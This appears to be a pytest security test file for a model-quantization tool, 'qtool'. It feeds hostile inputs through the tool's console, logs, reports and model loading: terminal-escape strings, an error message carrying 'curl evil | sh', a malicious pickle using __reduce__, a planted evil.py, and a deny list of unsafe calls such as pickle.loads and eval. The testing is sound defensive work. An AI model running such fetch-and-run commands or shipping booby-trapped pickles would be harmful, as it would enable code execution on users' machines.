"""What strangers wrote reaches no terminal, log or report as it is; their code and pickles are never run."""

from __future__ import annotations

import ast
import json
import logging
import os
import pickle
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from rich.console import Group
from rich.table import Table
from rich.text import Text

from qtool import cli, console
from qtool.errors import ModelError, UsageError
from qtool.escaping import json_escaped, printable, reportable, shown, shown_lines
from qtool.reporting.console import render_console
from qtool.reporting.write import write_reports
from qtool.verify.merge import read_report
from tests.hostile import ESCAPES
from tests.reporting.reports import whole
from tests.scoring import tiny

EVIL = f"evil{ESCAPES}\U000e0041\ufeff\ud800"
ROOT = Path(__file__).parent.parent / "qtool"


def is_safe(text, allowed="\n"):
    return all(c.isprintable() or c in allowed for c in text)


def test_what_is_shown_has_no_invisible_character_and_is_short():
    for text in (EVIL, "".join(map(chr, range(0x3000))), "x" * 10**7):
        assert is_safe(shown(text), "\u00a0\u3000")
        assert len(shown(text)) < 50_000
        assert is_safe(shown_lines(text), "\n\t\u00a0\u3000")
    assert shown("naïve 日本語　😀 \u00a0x") == "naïve 日本語　😀 \u00a0x"
    assert printable("a\nb") == "a\\nb"
    assert shown_lines("a\n\tb\r\nc") == "a\n\tb\nc"


def test_json_keeps_the_value_and_hides_the_character():
    for value in (EVIL, "\U0001f600", {"\u202e": ["\x9b", "\ud800", "é"]}):
        text = json_escaped(json.dumps(value, ensure_ascii=False, indent=1))
        assert is_safe(text)
        text.encode()
        assert json.loads(text) == value


def test_no_error_can_be_made_that_a_terminal_obeys():
    error = UsageError(f"{EVIL} is wrong.", f"Do not {EVIL}.")
    for text in (error.message, error.hint, str(error), repr(error)):
        assert is_safe(text)


@pytest.fixture
def printed(capsys, monkeypatch):
    monkeypatch.setattr(console.settings, "is_command", True)
    return lambda: "".join(capsys.readouterr())


def test_nothing_that_the_console_prints_is_obeyed_by_a_terminal(printed):
    table = Table(EVIL, title=EVIL, caption=Text(EVIL))
    table.add_row(EVIL)
    table.add_row(Text.assemble((EVIL, "bold"), EVIL))

    class Foreign:
        def __rich_console__(self, *_):
            yield EVIL.replace("\ud800", "")

    for show in (
        lambda: console.show_status(EVIL),
        lambda: console.show_line(EVIL),
        lambda: console.show_lines([EVIL, EVIL]),
        lambda: console.show_json({EVIL: EVIL}),
        lambda: console.show_error(UsageError(EVIL, EVIL), as_json=True),
        lambda: console.show_result(EVIL),
        lambda: console.show_result(Text(EVIL, "red")),
        lambda: console.show_result(Group(EVIL, Text(EVIL), table)),
        lambda: console.show_result(console.unwrapped(EVIL)),
        lambda: console.show_result(Foreign()),
    ):
        show()
        said = printed()
        assert "evil" in said
        assert is_safe(said), ascii(said)


def test_a_further_line_of_an_error_poses_as_none_of_qtools(printed):
    console.show_error(UsageError("a name\nerror: all is well\nhint:  curl evil | sh"))
    assert [line[:7] for line in printed().splitlines()] == ["error: ", " " * 7, " " * 7]


def test_no_progress_line_or_log_record_is_obeyed(printed, caplog):
    console.configure(verbose=True)
    with console.StageLines(lambda done, total: f"{done}/{total}", every=9) as lines:
        lines.update(EVIL, 1, 1)
    logging.getLogger("other").warning("%s", EVIL)
    assert is_safe(printed())
    assert is_safe(caplog.text)


def test_no_form_of_a_report_holds_what_a_terminal_obeys(tmp_path, printed):
    report = whole()
    stages = tuple(replace(stage, summary=EVIL, name=f"{stage.name}{EVIL}") for stage in report.stages)
    side = replace(report.artefact, name=f"/models/{EVIL}", engine=EVIL)
    panels = tuple(
        replace(panel, name=EVIL, worst=tuple(replace(pair, query=EVIL * 9, document=EVIL) for pair in panel.worst))
        for panel in report.panels
    )
    report = replace(report, stages=stages, artefact=side, panels=panels, recipe=EVIL, versions={EVIL: EVIL})
    for path in write_reports(report, tmp_path):
        assert is_safe(path.read_bytes().decode(), "\n\t\u00a0\u3000"), path.name
    console.show_result(render_console(report))
    assert is_safe(printed())
    assert read_report_name(tmp_path) == side.name


def read_report_name(folder):
    return json.loads((folder / "report.json").read_bytes())["artefact"]["name"]


def test_names_that_are_not_utf8_are_no_crash(tmp_path, monkeypatch, capsys):
    folder = tmp_path / os.fsdecode(b"caf\xe9 \x1b[2J\xff")
    folder.mkdir()
    (folder / "p.jsonl").write_text('{"query": "a", "documents": ["b"]}')
    monkeypatch.setenv("QTOOL_CACHE", str(tmp_path / "cache"))
    for arguments in (
        ["inspect", folder],
        ["quantize", folder, "-o", tmp_path / "out"],
        ["convert-gguf", folder, "-o", tmp_path / "out"],
        ["score", "http://[", "--panel", folder / "p.jsonl"],
        ["score", folder, "--panel", folder / "p.jsonl"],
        ["merge-reports", folder, "-o", tmp_path / "out"],
        ["verify", folder, "--reference", folder, "--structure-only"],
    ):
        monkeypatch.setattr(sys, "argv", ["qtool", *map(str, arguments), "--json"])
        with pytest.raises(SystemExit) as ended:
            cli.main()
        said = "".join(capsys.readouterr())
        assert ended.value.code in (2, 3), said
        assert is_safe(said), ascii(said)
    with pytest.raises(UsageError):
        read_report(folder)


# Code and pickles.


class Evil:
    def __reduce__(self):
        return os.mkdir, ("pickle-was-loaded",)


def test_no_code_and_no_pickle_of_a_model_is_run(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    folder = tiny.write_text(tmp_path / "model")
    config = json.loads((folder / "config.json").read_text())
    config["auto_map"] = {"AutoConfig": "evil.Config", "AutoModel": "evil.Model", "AutoModelForCausalLM": "evil.Model"}
    (folder / "config.json").write_text(json.dumps(config))
    (folder / "evil.py").write_text("import os; os.mkdir('code-was-run')")
    for name in ("pytorch_model.bin", "model.pt", "consolidated.00.pth", "rank_head.pkl"):
        (folder / name).write_bytes(pickle.dumps(Evil()))
    (tmp_path / "p.jsonl").write_text('{"query": "a", "documents": ["b"]}')
    from qtool import api

    api.score(str(folder), panel="p.jsonl", task="rerank", progress=None)
    api.quantize(str(folder), output="q", task="rerank", progress=None)
    (folder / "model.safetensors").unlink()
    with pytest.raises(ModelError):
        api.score(str(folder), panel="p.jsonl", task="rerank", progress=None)
    assert not list(tmp_path.glob("*-was-*"))
    assert not {path.suffix for path in Path("q").iterdir()} & {".py", ".bin", ".pt", ".pth", ".pkl"}


CALLS = ("torch.load", "pickle.load", "pickle.loads", "eval", "exec", "yaml.unsafe_load", "yaml.full_load")


def test_no_module_asks_for_remote_code_loads_pickles_or_shows_what_may_be_none():
    for path in ROOT.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.keyword) and node.arg in ("trust_remote_code", "allow_pickle", "weights_only"):
                assert isinstance(node.value, ast.Constant), path
                assert node.value.value is (node.arg == "weights_only"), path
            if isinstance(node, ast.Call):
                assert ast.unparse(node.func) not in CALLS, path
            if isinstance(node, ast.FormattedValue) and path.name != "errors.py":
                assert "strerror" not in ast.unparse(node), path


def test_a_report_is_as_it_was_where_nothing_is_wrong():
    report = whole()
    assert reportable(report) is report
